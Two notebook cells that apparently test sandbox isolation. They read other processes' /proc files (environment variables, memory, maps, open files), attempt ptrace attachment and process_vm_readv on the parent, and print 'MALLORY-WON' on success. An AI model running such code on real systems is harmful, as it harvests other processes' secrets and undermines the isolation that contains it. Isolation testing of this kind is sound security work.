# %%
import ctypes
import os

won = []
# Its own threads are no others; the list of them is closed. tgkill(2) with no signal finds them.
near = range(os.getpid() - 300, os.getpid() + 300)
own = {str(n) for n in near if ctypes.CDLL(None).syscall(234, os.getpid(), n, 0) == 0}
me = {str(os.getpid()), "self", "thread-self", *own}
others = {str(os.getppid()), "1", *map(str, range(os.getpid() - 300, os.getpid() + 30))} - me
try:
    others |= {name for name in os.listdir("/proc") if name.isdigit()} - me
except OSError:
    pass
for pid in others:
    for name in ("environ", "mem", "cmdline", "maps", "fd", "root", "cwd", "task", "stat", "status"):
        path = f"/proc/{pid}/{name}"
        try:
            won.append((path, open(path, "rb").read(100)))
        except OSError:
            pass
        for look in (os.listdir, os.readlink):
            try:
                won.append((path, look(path)))
            except OSError:
                pass
print(("MALLORY" "-WON " + str(won[:20])) if won else "nothing")
# %%
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
print([libc.ptrace(16, os.getppid(), 0, 0), libc.syscall(310, os.getppid(), 0, 0, 0, 0, 0)])
for fd in range(3, 64):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
